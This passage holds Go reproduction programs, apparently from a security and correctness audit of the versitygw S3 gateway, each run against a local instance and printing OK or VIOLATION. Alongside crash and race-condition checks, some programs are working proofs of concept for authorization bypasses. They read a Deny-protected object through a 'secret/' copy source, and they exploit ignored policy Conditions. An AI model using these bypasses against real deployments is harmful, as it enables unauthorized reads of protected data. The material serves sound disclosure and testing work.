	"github.com/aws/aws-sdk-go-v2/service/s3"
)

const (
	bucket = "c11-bucket"
	key    = "photos/"
)

func crashPhase() {
	root := os.Getenv("HUNT_ROOT")
	gw, err := startGateway(root, "", false)
	must(err, "start gateway")

	_, err = gw.cli.CreateBucket(ctxT(), &s3.CreateBucketInput{Bucket: aws.String(bucket)})
	must(err, "CreateBucket")
	_, err = gw.cli.PutObject(ctxT(), &s3.PutObjectInput{
		Bucket: aws.String(bucket), Key: aws.String(key),
		Body:     bytes.NewReader(nil),
		Metadata: map[string]string{"album": "2023"},
	})
	must(err, "PutObject photos/ (first, acknowledged)")

	// the acknowledged directory object is visible
	l, err := gw.cli.ListObjectsV2(ctxT(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket)})
	must(err, "ListObjectsV2")
	if len(l.Contents) != 1 || aws.ToString(l.Contents[0].Key) != key {
		fmt.Println("SETUP PROBLEM: photos/ is not listed after the first PUT")
		os.Exit(2)
	}

	// crash point of the second PUT: the attributes of the replaced
	// directory object have been removed, the ETag attribute of the new one
	// is about to be stored
	gw.meta.match = func(c call) bool {
		return c.op == "Store" && c.object == key && c.attr == "etag"
	}
	gw.meta.armed.Store(true)

	_, err = gw.cli.PutObject(ctxT(), &s3.PutObjectInput{
		Bucket: aws.String(bucket), Key: aws.String(key),
		Body:     bytes.NewReader(nil),
		Metadata: map[string]string{"album": "2024"},
	})
	must(err, "PutObject photos/ (crash point not reached)")
	os.Exit(0)
}

func main() {
	if os.Getenv("HUNT_PHASE") == "crash" {
		crashPhase()
		return
	}

	base, root, _ := scratch("c11hunt2")
	defer os.RemoveAll(base)

	runCrashPhase("HUNT_ROOT=" + root)

	// restart
	gw, err := startGateway(root, "", false)
	must(err, "restart gateway")

	var bad []string

	l, err := gw.cli.ListObjectsV2(ctxT(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket)})
	must(err, "ListObjectsV2 after restart")
	var keys []string
	for _, o := range l.Contents {
		keys = append(keys, aws.ToString(o.Key))
	}
	fmt.Printf("ListObjectsV2 after restart: %d keys %v\n", len(keys), keys)
	if len(keys) != 1 || keys[0] != key {
		bad = append(bad, fmt.Sprintf("the acknowledged object %q is no longer listed (keys %v)", key, keys))
	}

	h, err := gw.cli.HeadObject(ctxT(), &s3.HeadObjectInput{Bucket: aws.String(bucket), Key: aws.String(key)})
	if err != nil {
		fmt.Printf("HeadObject %s after restart: %s\n", key, errCode(err))
		bad = append(bad, "HEAD answers "+errCode(err))
	} else {
		fmt.Printf("HeadObject %s after restart: 200 ETag=%q album=%q content-type=%q\n",
			key, aws.ToString(h.ETag), h.Metadata["album"], aws.ToString(h.ContentType))
		album := h.Metadata["album"]
		okOld := aws.ToString(h.ETag) != "" && album == "2023"
		okNew := aws.ToString(h.ETag) != "" && album == "2024"
		if !okOld && !okNew {
			bad = append(bad, fmt.Sprintf("HEAD answers 200 with ETag %q, album %q, content-type %q (previous: ETag of no data, album 2023; new: ETag of no data, album 2024)",
				aws.ToString(h.ETag), album, aws.ToString(h.ContentType)))
		}
	}

	if len(keys) == 0 {
		// nothing is listed, so nothing has to be removed before the bucket
		// can go
		_, err = gw.cli.DeleteBucket(ctxT(), &s3.DeleteBucketInput{Bucket: aws.String(bucket)})
		fmt.Printf("DeleteBucket of the bucket that lists nothing: %q\n", errCode(err))
		if err != nil {
			bad = append(bad, "DeleteBucket of the bucket that lists no key answers "+errCode(err))
		}
	}

	os.RemoveAll(base)
	if len(bad) == 0 {
		fmt.Println("OK: the key holds its complete previous or complete new state")
		os.Exit(0)
	}
	fmt.Printf("VIOLATION: gateway killed during the second PutObject of directory object %q: %s\n", key, strings.Join(bad, "; "))
	os.Exit(1)
}
