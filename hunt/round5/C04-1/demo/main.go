//go:build huntdemo

// Finding 1 (C04): UploadPartCopy resolves the copy source key "secret/" to
// the file object "secret". The access decision is taken on the spelled key
// "secret/", the bytes come from "secret": an explicit Deny on the object is
// bypassed and its content is returned.
package main

import (
	"fmt"
	"os"
	"regexp"
)

func step(tag string, r resp) resp {
	fmt.Printf("%-58s -> %d %s\n", tag, r.code, short(r.body))
	return r
}

func main() {
	g := startGW(gwOpts{})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	const secret = "TOP-SECRET-CONTENT"
	alice := g.mkuser("alice", "alicesecret", "user")
	step("root  PUT /bkt", g.do(rootCred, "PUT", "/bkt", nil, nil))
	step("root  PUT /bkt/secret", g.do(rootCred, "PUT", "/bkt/secret", []byte(secret), nil))
	pol := `{"Statement":[` +
		`{"Effect":"Allow","Principal":"alice","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},` +
		`{"Effect":"Deny","Principal":"alice","Action":["s3:GetObject","s3:GetObjectVersion"],"Resource":"arn:aws:s3:::bkt/secret"}]}`
	if r := step("root  PUT /bkt?policy (Deny alice GetObject on bkt/secret)", g.do(rootCred, "PUT", "/bkt?policy", []byte(pol), nil)); r.code != 200 {
		fmt.Println("SETUP: policy refused")
		return 2
	}

	// the denial holds for every way of reading the object by its name
	if r := step("alice GET /bkt/secret", g.do(alice, "GET", "/bkt/secret", nil, nil)); r.code != 403 {
		fmt.Println("SETUP: expected 403")
		return 2
	}
	// "secret/" is not an object of the bucket
	if r := step("alice GET /bkt/secret/", g.do(alice, "GET", "/bkt/secret/", nil, nil)); r.code != 404 {
		fmt.Println("SETUP: expected 404")
		return 2
	}
	step("alice CopyObject      source bkt/secret", g.do(alice, "PUT", "/bkt/c1", nil, map[string]string{"x-amz-copy-source": "bkt/secret"}))
	step("alice CopyObject      source bkt/secret/", g.do(alice, "PUT", "/bkt/c2", nil, map[string]string{"x-amz-copy-source": "bkt/secret/"}))

	r := step("alice POST /bkt/mine?uploads", g.do(alice, "POST", "/bkt/mine?uploads", nil, nil))
	m := regexp.MustCompile(`<UploadId>([^<]+)</UploadId>`).FindStringSubmatch(r.body)
	if m == nil {
		fmt.Println("SETUP: no upload id")
		return 2
	}
	id := m[1]
	if r := step("alice UploadPartCopy  source bkt/secret", g.do(alice, "PUT", "/bkt/mine?partNumber=1&uploadId="+id, nil, map[string]string{"x-amz-copy-source": "bkt/secret"})); r.code != 403 {
		fmt.Println("SETUP: expected 403")
		return 2
	}
	r = step("alice UploadPartCopy  source bkt/secret/", g.do(alice, "PUT", "/bkt/mine?partNumber=1&uploadId="+id, nil, map[string]string{"x-amz-copy-source": "bkt/secret/"}))
	if r.code != 200 {
		fmt.Println("OK: a copy source that names the non-existent key 'secret/' is refused")
		return 0
	}
	et := regexp.MustCompile(`<ETag>([^<]+)</ETag>`).FindStringSubmatch(r.body)
	body := `<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>` + et[1] + `</ETag></Part></CompleteMultipartUpload>`
	step("alice CompleteMultipartUpload /bkt/mine", g.do(alice, "POST", "/bkt/mine?uploadId="+id, []byte(body), nil))
	r = step("alice GET /bkt/mine", g.do(alice, "GET", "/bkt/mine", nil, nil))
	if r.code == 200 && r.body == secret {
		fmt.Println("VIOLATION: UploadPartCopy with copy source 'bkt/secret/' (no such object; access decided on 'secret/') read the object 'bkt/secret' that alice is denied: she now holds its content " + fmt.Sprintf("%q", r.body))
		return 1
	}
	fmt.Println("VIOLATION: UploadPartCopy accepted the copy source 'bkt/secret/' although no object of that name exists")
	return 1
}
