//go:build huntdemo

// C18 finding 3: through the s3proxy backend, creating a bucket that already
// belongs to ANOTHER user answers BucketAlreadyOwnedByYou.
//
// Both gateways know the users alice and bob (role userplus). The same
// program is run against the endpoint directly (bucket shared-direct) and
// through a gateway that uses this endpoint as its s3proxy backend (bucket
// shared-proxy):
//
//	alice: PUT /<bucket>        -> 200, alice owns the bucket
//	bob:   PUT /<bucket>        -> must be 409 BucketAlreadyExists
//	alice: PUT /<bucket>        -> 409 BucketAlreadyOwnedByYou
//	bob:   HEAD /<bucket>       -> 403 (it is not his)
//	alice: GET /<bucket>?acl    -> owner alice
//
// exit 1: the client-visible results differ (property violated), exit 0: same.
package main

import (
	"fmt"
	"os"
	"regexp"

	"github.com/versity/versitygw/auth"
)

func main() {
	endpoint, proxy, cleanup := setup("c18hunt3", true)
	code := run(endpoint, proxy)
	cleanup()
	os.Exit(code)
}

var reOwner = regexp.MustCompile(`<Owner><ID>([^<]*)</ID>`)

type outcome struct {
	aliceCreate, bobCreate, aliceAgain, bobHead, owner string
}

func program(g *gateway, bucket string) outcome {
	var o outcome
	o.aliceCreate = g.do("alice", "alicesecret", "PUT", "/"+bucket, nil, "").brief()
	o.bobCreate = g.do("bob", "bobsecret", "PUT", "/"+bucket, nil, "").brief()
	o.aliceAgain = g.do("alice", "alicesecret", "PUT", "/"+bucket, nil, "").brief()
	o.bobHead = g.do("bob", "bobsecret", "HEAD", "/"+bucket, nil, "").brief()
	acl := g.do("alice", "alicesecret", "GET", "/"+bucket+"?acl", nil, "")
	o.owner = acl.brief()
	if m := reOwner.FindStringSubmatch(acl.Body); m != nil {
		o.owner += " owner=" + m[1]
	}
	return o
}

func run(endpoint, proxy *gateway) int {
	for _, g := range []*gateway{endpoint, proxy} {
		for _, u := range []string{"alice", "bob"} {
			if err := g.IAM.CreateAccount(auth.Account{Access: u, Secret: u + "secret", Role: auth.RoleUserPlus}); err != nil {
				panic(err)
			}
		}
	}
	d := program(endpoint, "shared-direct")
	p := program(proxy, "shared-proxy")
	rows := []struct{ step, d, p string }{
		{"alice creates the bucket", d.aliceCreate, p.aliceCreate},
		{"bob creates the same bucket", d.bobCreate, p.bobCreate},
		{"alice creates it again", d.aliceAgain, p.aliceAgain},
		{"bob HEADs the bucket", d.bobHead, p.bobHead},
		{"alice reads the bucket acl", d.owner, p.owner},
	}
	differ := false
	for _, r := range rows {
		mark := "same"
		if r.d != r.p {
			mark = "DIFFERENT"
			differ = true
		}
		fmt.Printf("%-30s direct: %-32s proxy: %-32s %s\n", r.step, r.d, r.p, mark)
	}
	if differ {
		fmt.Printf("VIOLATION: through the s3proxy gateway bob's CreateBucket of alice's bucket answered %q (directly: %q): the gateway tells bob that he owns a bucket it records alice as the owner of (%s) and denies him (%s)\n",
			p.bobCreate, d.bobCreate, p.owner, p.bobHead)
		return 1
	}
	fmt.Println("ok: same results directly and through the s3proxy gateway")
	return 0
}
