//go:build huntdemo

// Property C03: with a bucket policy set, an operation of a non-admin
// account succeeds only if the policy allows that account the action on
// that resource.
//
// PutBucketPolicy accepts statements that carry a Condition (or NotPrincipal
// / NotAction / NotResource) and the evaluation ignores those elements: an
// Allow that the document restricts to a source network or to TLS requests
// is enforced as an unconditional Allow for every account. The document is
// neither enforced as written nor refused.
package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/posix"
)

func main() {
	g := startPosixGateway("c03hunt3-", posix.PosixOpts{}, false)
	owner := cred{"owner", "ownersecret"}
	user := cred{"user1", "user1secret"}
	g.mkuser(owner, auth.RoleUserPlus)
	g.mkuser(user, auth.RoleUser)

	expect(g.do(owner, "PUT", "/bkt", nil, nil), 200, "create bucket")
	expect(g.do(owner, "PUT", "/bkt/report.txt", nil, []byte("internal report")), 200, "put object")
	// control: without a policy user1 has no access at all (the ACL grants it nothing)
	expect(g.do(user, "GET", "/bkt/report.txt", nil, nil), 403, "control GET without policy")

	var violations []string
	for _, c := range []struct{ name, cond, why string }{
		{"IpAddress aws:SourceIp 203.0.113.0/24", `{"IpAddress":{"aws:SourceIp":"203.0.113.0/24"}}`, "the request comes from 127.0.0.1"},
		{"Bool aws:SecureTransport true", `{"Bool":{"aws:SecureTransport":"true"}}`, "the request is plain http"},
	} {
		pol := `{"Version":"2012-10-17","Statement":[
		 {"Sid":"owner","Effect":"Allow","Principal":"owner","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},
		 {"Sid":"restricted-readers","Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::bkt/*",
		  "Condition":` + c.cond + `}]}`
		r := g.do(owner, "PUT", "/bkt?policy", nil, []byte(pol))
		fmt.Printf("owner PutBucketPolicy: Allow * s3:GetObject bkt/* Condition %s -> %v\n", c.name, r)
		if r.status != 200 {
			// refusing a document it cannot enforce keeps the property
			continue
		}
		got := g.do(user, "GET", "/bkt/report.txt", nil, nil)
		fmt.Printf("user1 GET /bkt/report.txt (%s) -> %d %q\n", c.why, got.status, got.body)
		if got.status == 200 {
			violations = append(violations, fmt.Sprintf("Allow conditioned on %q was applied although %s", c.name, c.why))
		}
	}

	g.cleanup()
	if len(violations) > 0 {
		fmt.Println("VIOLATION: the policy was accepted and its Condition ignored, user1 read the object the policy does not allow it: " + strings.Join(violations, "; "))
		os.Exit(1)
	}
	fmt.Println("OK: the conditional Allow was refused or not applied to a request that does not meet the condition")
}
