//go:build huntdemo

// C08 finding 2: UploadPartCopy takes the size of the copy source from a
// stat by path, preallocates the part to that length and only then opens the
// source by path. A source that is overwritten by a shorter object in
// between yields a part that is the new bytes followed by zero bytes up to
// the old length, under the ETag of the new bytes alone; there is no check
// that as many bytes were copied as were announced (UploadPart has one).
// Completing the upload publishes the zero padded bytes.
//
// The schedule is made deterministic by wrapping the metadata store: the
// delete-marker lookup that UploadPartCopy makes on the source between the
// stat and the open (posix backend with a versioning directory) is the point
// at which the concurrent PutObject of the source is run to completion.
package main

import (
	"bytes"
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"sync"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

var (
	ctx = context.Background()
	bkt = aws.String("bkt")
)

// hookMeta is the real xattr metadata store; it runs hook once, just before
// the delete-marker attribute of bkt/src is looked up.
type hookMeta struct {
	meta.MetadataStorer
	mu   sync.Mutex
	hook func()
}

func (h *hookMeta) RetrieveAttribute(f *os.File, bucket, object, attribute string) ([]byte, error) {
	if attribute == "delete-marker" && bucket == "bkt" && object == "src" {
		h.mu.Lock()
		hk := h.hook
		h.hook = nil
		h.mu.Unlock()
		if hk != nil {
			hk()
		}
	}
	return h.MetadataStorer.RetrieveAttribute(f, bucket, object, attribute)
}

func md5hex(b []byte) string { s := md5.Sum(b); return hex.EncodeToString(s[:]) }

func main() {
	root := scratchDir("c08-hunt2")
	vdir := scratchDir("c08-hunt2-versions")

	hm := &hookMeta{MetadataStorer: meta.XattrMeta{}}
	be, err := posix.New(root, hm, posix.PosixOpts{NewDirPerm: 0755, VersioningDir: vdir})
	must(err)
	c := startGateway(be).cli

	_, err = c.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: bkt})
	must(err)

	oldSrc := bytes.Repeat([]byte("A"), 1000)
	newSrc := bytes.Repeat([]byte("B"), 10)
	_, err = c.PutObject(ctx, &s3.PutObjectInput{Bucket: bkt, Key: aws.String("src"), Body: bytes.NewReader(oldSrc)})
	must(err)

	mp, err := c.CreateMultipartUpload(ctx, &s3.CreateMultipartUploadInput{Bucket: bkt, Key: aws.String("dst")})
	must(err)

	// schedule: UploadPartCopy stats src (1000 bytes) | PutObject src (10 bytes), complete | UploadPartCopy opens and reads src
	hm.mu.Lock()
	hm.hook = func() {
		_, err := c.PutObject(ctx, &s3.PutObjectInput{Bucket: bkt, Key: aws.String("src"), Body: bytes.NewReader(newSrc)})
		must(err)
	}
	hm.mu.Unlock()

	cp, err := c.UploadPartCopy(ctx, &s3.UploadPartCopyInput{Bucket: bkt, Key: aws.String("dst"), UploadId: mp.UploadId,
		PartNumber: aws.Int32(1), CopySource: aws.String("bkt/src")})
	must(err)
	etag := *cp.CopyPartResult.ETag

	lp, err := c.ListParts(ctx, &s3.ListPartsInput{Bucket: bkt, Key: aws.String("dst"), UploadId: mp.UploadId})
	must(err)
	if len(lp.Parts) != 1 {
		fmt.Println("harness error: expected one part")
		exit(2)
	}
	fmt.Printf("UploadPartCopy -> 200 ETag=%s; ListParts: part 1 size=%d ETag=%s\n", etag, *lp.Parts[0].Size, *lp.Parts[0].ETag)

	_, err = c.CompleteMultipartUpload(ctx, &s3.CompleteMultipartUploadInput{Bucket: bkt, Key: aws.String("dst"), UploadId: mp.UploadId,
		MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: aws.Int32(1), ETag: &etag}}}})
	must(err)
	g, err := c.GetObject(ctx, &s3.GetObjectInput{Bucket: bkt, Key: aws.String("dst")})
	must(err)
	got, _ := io.ReadAll(g.Body)
	fmt.Printf("GET dst -> %d bytes, starts %q, md5=%s (md5 of old source %s, of new source %s)\n",
		len(got), got[:14], md5hex(got), md5hex(oldSrc), md5hex(newSrc))

	if bytes.Equal(got, oldSrc) || bytes.Equal(got, newSrc) {
		fmt.Println("ok: the completed object is a copy of one state of the source")
		exit(0)
	}
	zeros := 0
	for _, b := range got {
		if b == 0 {
			zeros++
		}
	}
	fmt.Printf("VIOLATION: the part stored by UploadPartCopy (and the completed object) is neither state of the source: %d bytes = %d bytes of the new source + %d zero bytes, listed and validated under ETag %s which is the md5 of the 10 new bytes only (md5 of the stored part: %s)\n",
		len(got), len(got)-zeros, zeros, etag, md5hex(got))
	exit(1)
}
