//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	rootAccess = "rootaccess"
	rootSecret = "rootsecret"
	region     = "us-east-1"
)

type gw struct {
	addr string
	app  *fiber.App
	cli  *s3.Client
}

// startGateway serves be through the real s3api stack on a loopback port.
func startGateway(be backend.Backend, opts ...s3api.Option) *gw {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
		BodyLimit:             5 * 1024 * 1024 * 1024,
	})
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}})
	must(err)
	opts = append(opts, s3api.WithQuiet())
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, opts...)
	must(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(err)
	go app.Listener(ln)
	g := &gw{addr: "http://" + ln.Addr().String(), app: app}
	g.cli = s3.New(s3.Options{
		Region:                     region,
		BaseEndpoint:               aws.String(g.addr),
		UsePathStyle:               true,
		Credentials:                credentials.NewStaticCredentialsProvider(rootAccess, rootSecret, ""),
		RequestChecksumCalculation: aws.RequestChecksumCalculationWhenRequired,
		ResponseChecksumValidation: aws.ResponseChecksumValidationWhenRequired,
	})
	return g
}

// raw sends a signed request with an arbitrary method / path+query / headers.
func (g *gw) raw(method, pathQuery string, hdr map[string]string, body []byte) (int, http.Header, []byte) {
	req, err := http.NewRequest(method, g.addr+pathQuery, bytes.NewReader(body))
	must(err)
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	signer := v4.NewSigner()
	must(signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: rootAccess, SecretAccessKey: rootSecret},
		req, hexsum, "s3", region, time.Now()))
	resp, err := http.DefaultClient.Do(req)
	must(err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, b
}

func must(err error) {
	if err != nil {
		fmt.Println("harness error:", err)
		exit(2)
	}
}

var scratchDirs []string

// scratchDir makes a scratch directory on /dev/shm (user.* xattrs, O_TMPFILE).
func scratchDir(name string) string {
	d, err := os.MkdirTemp("/dev/shm", name+"-")
	must(err)
	scratchDirs = append(scratchDirs, d)
	return d
}

// exit removes the scratch directories and ends the process.
func exit(code int) {
	for _, d := range scratchDirs {
		os.RemoveAll(d)
	}
	os.Exit(code)
}

func oneLine(b []byte) string {
	s := strings.ReplaceAll(string(b), "\n", " ")
	if len(s) > 300 {
		s = s[:300]
	}
	return s
}
