//go:build huntdemo

// PutObject of a directory object ("d/") that already exists rewrites the
// attributes of the directory in place, one by one (default configuration:
// xattr metadata store, no versioning). A concurrent GET sees a half written
// object and two overlapping PUTs leave a permanent mixture of both requests.
//
// The real posix backend is driven directly. The only instrumentation is a
// wrapper around the xattr metadata store with a one-shot yield point at the
// call that stores the ETag attribute of the directory object.
package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"reflect"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3err"
	"github.com/versity/versitygw/s3response"
)

const bucket = "bkt"

// the directory object the current scenario works on
var key = "d/"

// gatedMeta is meta.XattrMeta plus one one-shot yield point.
type gatedMeta struct {
	meta.XattrMeta
	mu      sync.Mutex
	armed   bool
	arrived chan chan struct{}
}

func (g *gatedMeta) StoreAttribute(f *os.File, bkt, obj, attr string, value []byte) error {
	if f == nil && bkt == bucket && obj == key && attr == "etag" {
		g.mu.Lock()
		armed := g.armed
		g.armed = false
		g.mu.Unlock()
		if armed {
			resume := make(chan struct{})
			g.arrived <- resume
			<-resume
		}
	}
	return g.XattrMeta.StoreAttribute(f, bkt, obj, attr, value)
}

func ptr[T any](v T) *T { return &v }

func errStr(err error) string {
	if err == nil {
		return "<nil>"
	}
	var ae s3err.APIError
	if errors.As(err, &ae) {
		return fmt.Sprintf("%d %s", ae.HTTPStatusCode, ae.Code)
	}
	return err.Error()
}

func fatal(format string, a ...any) {
	fmt.Printf("SETUP PROBLEM: "+format+"\n", a...)
	os.Exit(2)
}

type write struct {
	name  string
	ctype string
	md    map[string]string
}

func put(be *posix.Posix, w write) error {
	_, err := be.PutObject(context.Background(), s3response.PutObjectInput{
		Bucket:        ptr(bucket),
		Key:           ptr(key),
		ContentLength: ptr(int64(0)),
		ContentType:   ptr(w.ctype),
		Metadata:      w.md,
		Body:          strings.NewReader(""),
	})
	return err
}

type view struct {
	etag, ctype string
	md          map[string]string
}

func (v view) String() string {
	return fmt.Sprintf("ETag=%q Content-Type=%q metadata=%v", v.etag, v.ctype, v.md)
}

func get(be *posix.Posix) view {
	out, err := be.GetObject(context.Background(), &s3.GetObjectInput{Bucket: ptr(bucket), Key: ptr(key), Range: ptr("")})
	if err != nil {
		fatal("GET %s: %s", key, errStr(err))
	}
	v := view{md: out.Metadata}
	if out.ETag != nil {
		v.etag = *out.ETag
	}
	if out.ContentType != nil {
		v.ctype = *out.ContentType
	}
	return v
}

const dirETag = "\"d41d8cd98f00b204e9800998ecf8427e\""

// which of the writes (if any) does a GET result belong to
func explain(v view, ws ...write) string {
	for _, w := range ws {
		if v.etag == dirETag && v.ctype == w.ctype && reflect.DeepEqual(v.md, w.md) {
			return w.name
		}
	}
	return ""
}

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c05-3-")
	if err != nil {
		fatal("mkdir: %v", err)
	}
	defer os.RemoveAll(base)
	root := base + "/root"
	os.Mkdir(root, 0755)

	g := &gatedMeta{arrived: make(chan chan struct{}, 1)}
	be, err := posix.New(root, g, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		fatal("posix.New: %v", err)
	}
	ctx := context.Background()
	if err := be.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: ptr(bucket)}, []byte("{}")); err != nil {
		fatal("create bucket: %v", err)
	}

	w0 := write{"PUT 0", "type/zero", map[string]string{"writer": "0", "only-zero": "yes"}}
	wA := write{"PUT A", "type/A", map[string]string{"writer": "A", "only-a": "yes"}}
	wB := write{"PUT B", "type/B", map[string]string{"writer": "B", "only-b": "yes"}}

	if err := put(be, w0); err != nil {
		fatal("put 0: %v", err)
	}
	fmt.Printf("PUT 0 acknowledged            : Content-Type=%q metadata=%v\n", w0.ctype, w0.md)
	fmt.Printf("GET d/                        -> %v\n", get(be))

	var problems []string

	g.mu.Lock()
	g.armed = true
	g.mu.Unlock()
	doneA := make(chan error, 1)
	go func() { doneA <- put(be, wA) }()
	var resumeA chan struct{}
	select {
	case resumeA = <-g.arrived:
	case <-time.After(10 * time.Second):
		fatal("PUT A never reached the yield point")
	}
	fmt.Printf("PUT A in flight               : Content-Type=%q metadata=%v (has removed the old attributes and stored its user metadata)\n", wA.ctype, wA.md)

	v := get(be)
	fmt.Printf("GET d/ during PUT A           -> %v\n", v)
	if explain(v, w0, wA) == "" {
		problems = append(problems, fmt.Sprintf("a GET overlapping one overwrite returned {%v}, which is neither the old write (PUT 0) nor the new one (PUT A)", v))
	}

	if err := put(be, wB); err != nil {
		fatal("put B: %v", err)
	}
	fmt.Printf("PUT B acknowledged            : Content-Type=%q metadata=%v\n", wB.ctype, wB.md)
	close(resumeA)
	if err := <-doneA; err != nil {
		fatal("put A: %v", err)
	}
	fmt.Println("PUT A acknowledged")

	v = get(be)
	fmt.Printf("GET d/ after both returned    -> %v\n", v)
	if explain(v, wA, wB) == "" {
		problems = append(problems, fmt.Sprintf("after two overlapping PUTs the object is {%v}: PUT B's user metadata under PUT A's Content-Type, no order of the two writes produces it", v))
	}

	// second scenario, on e/: the overwrite overlaps the DELETE of a child key
	fmt.Println("--")
	key = "e/"
	if err := put(be, w0); err != nil {
		fatal("put e/: %v", err)
	}
	fmt.Printf("PUT e/ acknowledged           : Content-Type=%q metadata=%v\n", w0.ctype, w0.md)
	_, err = be.PutObject(ctx, s3response.PutObjectInput{Bucket: ptr(bucket), Key: ptr("e/child"),
		ContentLength: ptr(int64(1)), Body: strings.NewReader("x")})
	if err != nil {
		fatal("put e/child: %v", err)
	}
	fmt.Println("PUT e/child acknowledged")
	g.mu.Lock()
	g.armed = true
	g.mu.Unlock()
	go func() { doneA <- put(be, wA) }()
	select {
	case resumeA = <-g.arrived:
	case <-time.After(10 * time.Second):
		fatal("PUT A (e/) never reached the yield point")
	}
	fmt.Println("PUT e/ (overwrite) in flight")
	_, err = be.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: ptr(bucket), Key: ptr("e/child")})
	fmt.Printf("DELETE e/child                -> %s\n", errStr(err))
	close(resumeA)
	errA := <-doneA
	fmt.Printf("PUT e/ (overwrite) answered   -> %s\n", errStr(errA))
	_, err = be.GetObject(ctx, &s3.GetObjectInput{Bucket: ptr(bucket), Key: ptr(key), Range: ptr("")})
	fmt.Printf("GET e/ at the end             -> %s\n", errStr(err))
	if err != nil {
		problems = append(problems, fmt.Sprintf("e/ was put, then only overwritten (answer: %s) while a child key was deleted; nobody deleted e/, yet GET e/ now answers %s", errStr(errA), errStr(err)))
	}

	if len(problems) > 0 {
		fmt.Printf("VIOLATION: overwrite of a directory object is not atomic: %s\n", strings.Join(problems, "; "))
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("OK")
}
