//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	rootAccess = "AKIAROOTACCESSKEY"
	rootSecret = "root-secret-key"
	region     = "us-east-1"
)

var creds = aws.Credentials{AccessKeyID: rootAccess, SecretAccessKey: rootSecret}

// startGateway runs the real gateway (s3api.New + posix backend on a scratch
// directory below /dev/shm) in this process and returns its address.
func startGateway() (addr, base string) {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c02-2-")
	check(err)
	root := base + "/root"
	check(os.MkdirAll(root, 0o755))
	be, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0o755})
	check(err)
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}})
	check(err)
	// same fiber configuration as cmd/versitygw
	app := fiber.New(fiber.Config{
		AppName: "versitygw", ServerHeader: "VERSITYGW", StreamRequestBody: true,
		DisableKeepalive: true, Network: fiber.NetworkTCP, DisableStartupMessage: true,
	})
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	check(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	check(err)
	go app.Listener(ln)
	return ln.Addr().String(), base
}

func check(err error) {
	if err != nil {
		fmt.Println("setup error:", err)
		os.Exit(2)
	}
}

func sha256hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// send performs the request as is
func send(req *http.Request) (int, string) {
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		return -1, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// signed sends a correctly header-signed request (aws sdk signer, root account)
func signed(method, url string, body []byte) (int, string) {
